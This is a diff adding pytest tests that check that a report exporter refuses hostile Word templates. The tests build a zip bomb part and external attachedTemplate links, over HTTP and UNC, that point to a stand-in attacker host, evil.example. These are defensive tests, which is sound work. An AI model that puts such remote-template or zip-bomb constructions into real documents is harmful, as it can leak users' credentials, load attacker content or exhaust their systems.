@@ -375,3 +375,82 @@ def test_any_text_reads_back_as_text_never_a_formula(names):
         assert unicodedata.is_normalized("NFC", shown)
         if name and unicodedata.is_normalized("NFC", name) and name == office_text(name):
             assert shown.removeprefix("'") == name  # typed text stays as typed
+
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+SETTINGS_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
+    '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
+    f'Type="{REL}/attachedTemplate" Target="\\\\evil.example\\share\\t.dotm" '
+    'TargetMode="External"/></Relationships>'
+)
+
+
+def _hostile_template(path, *, edit=None, extra=()):
+    """Riskmap's own template with parts edited (``edit(name, bytes)``) or added."""
+    with zipfile.ZipFile(TEMPLATE) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            body = src.read(item)
+            dst.writestr(item.filename, edit(item.filename, body) if edit else body)
+        for name, body in extra:
+            dst.writestr(name, body)
+    return path
+
+
+def _bomb_rels(name, body):
+    if name == "word/_rels/document.xml.rels":
+        link = f'<Relationship Id="rIdBomb" Type="{REL}/image" Target="media/bomb.png"/>'
+        body = body.replace(b"</Relationships>", link.encode() + b"</Relationships>")
+    return body
+
+
+def _remote_document_rels(name, body):
+    if name == "word/_rels/document.xml.rels":
+        link = (
+            f'<Relationship Id="rIdX" Type="{REL}/attachedTemplate" '
+            'Target="http://evil.example/t.dotm" TargetMode="External"/>'
+        )
+        body = body.replace(b"</Relationships>", link.encode() + b"</Relationships>")
+    return body
+
+
+def _remote_settings(name, body):
+    if name == "word/settings.xml":
+        body = body.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
+    return body
+
+
+@pytest.mark.parametrize(
+    ("build", "reason"),
+    [
+        (
+            lambda p: _hostile_template(
+                p, edit=_bomb_rels, extra=[("word/media/bomb.png", b"\0" * 30_000_000)]
+            ),
+            "zip member .*bomb.png.* unpacks",
+        ),
+        (
+            lambda p: _hostile_template(p, edit=_remote_document_rels),
+            "links to something outside itself .*document.xml.rels",
+        ),
+        (
+            lambda p: _hostile_template(
+                p, edit=_remote_settings, extra=[("word/_rels/settings.xml.rels", SETTINGS_RELS)]
+            ),
+            "links to something outside itself .*settings.xml.rels",
+        ),
+    ],
+    ids=["zip-bomb-part", "remote-attached-template", "unc-attached-template-in-settings"],
+)
+def test_a_hostile_template_is_refused_naming_the_file(
+    planned, run, scored, tmp_path, build, reason
+):
+    template = build(tmp_path / "mau-bao-cao.docx")
+    out = tmp_path / "out"
+    out.mkdir()
+    info = run_info(run, load_profile("patrol"), lang="vi")
+    with pytest.raises(InputFileError, match=rf"^.*mau-bao-cao\.docx: .*{reason}"):
+        write_export(
+            out / "r.docx", scored, {}, request=ExportRequest("docx", template=template), info=info
+        )
+    assert not list(out.iterdir())  # nothing half-written
